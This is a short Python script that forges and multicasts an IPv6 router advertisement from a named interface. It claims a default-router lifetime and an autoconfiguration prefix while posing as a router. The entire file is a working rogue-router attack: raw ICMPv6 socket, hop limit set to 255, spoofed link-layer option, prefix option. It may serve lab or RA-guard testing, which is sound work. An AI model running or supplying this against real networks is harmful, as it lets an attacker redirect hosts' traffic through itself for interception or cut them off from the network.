"""Sends what a rogue router sends: rogue.py DEV. A router advertisement with a default route, a prefix and a default lifetime."""

import fcntl
import socket
import struct
import sys

dev = sys.argv[1]
sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev.encode() + b"\0")
# What a router did not forward has a hop limit of 255 (RFC 4861, 6.1.2).
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
mac = fcntl.ioctl(sock, 0x8927, struct.pack("256s", dev.encode()))[18:24]  # SIOCGIFHWADDR
prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
advertisement = struct.pack("!BBHBBHLL", 134, 0, 0, 64, 0, 1800, 0, 0)
advertisement += struct.pack("!BB", 1, 1) + mac
advertisement += struct.pack("!BBBBLLL", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix
sock.sendto(advertisement, ("ff02::1", 0, 0, socket.if_nametoindex(dev)))
